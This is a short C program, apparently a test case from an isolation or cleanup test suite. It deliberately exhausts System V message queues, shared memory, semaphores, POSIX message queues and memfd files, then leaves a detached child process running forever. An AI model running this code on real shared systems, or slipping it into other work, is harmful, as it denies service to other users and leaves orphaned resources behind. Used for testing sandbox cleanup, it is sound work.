// SPDX-License-Identifier: MIT
/* Message queues, shared memory and semaphores of all kinds, left to those who come after. */
#include "attack.h"

#include <fcntl.h>
#include <mqueue.h>
#include <signal.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <unistd.h>

static void fill_message_queues(void)
{
	struct {
		long type;
		char text[8000];
	} message = { .type = 1 };

	for (int i = 0; i < 100; i++) {
		int queue = msgget(IPC_PRIVATE, 0600);

		while (queue >= 0 && msgsnd(queue, &message, sizeof(message.text), IPC_NOWAIT) == 0)
			;
	}
}

int main(void)
{
	char name[32];

	fill_message_queues();
	for (int i = 0; i < 400; i++) {
		struct sembuf raise_it = { .sem_op = 1, .sem_flg = SEM_UNDO };
		int memory = shmget(IPC_PRIVATE, 1 << 16, 0600), semaphores = semget(IPC_PRIVATE, 100, 0600);
		void *place = memory < 0 ? (void *)-1 : shmat(memory, NULL, 0);

		if (place != (void *)-1)
			memset(place, 1, 1 << 16);
		if (semaphores >= 0)
			semop(semaphores, &raise_it, 1);
		snprintf(name, sizeof(name), "/queue%d", i);
		if (mq_open(name, O_RDWR | O_CREAT, 0600, NULL) == (mqd_t)-1)
			mq_unlink(name);
		if (ftruncate(memfd_create(name, 0), 1 << 16) < 0)
			break;
	}
	if (fork() == 0) {
		setsid();
		for (;;)
			pause();
	}
	return 0;
}
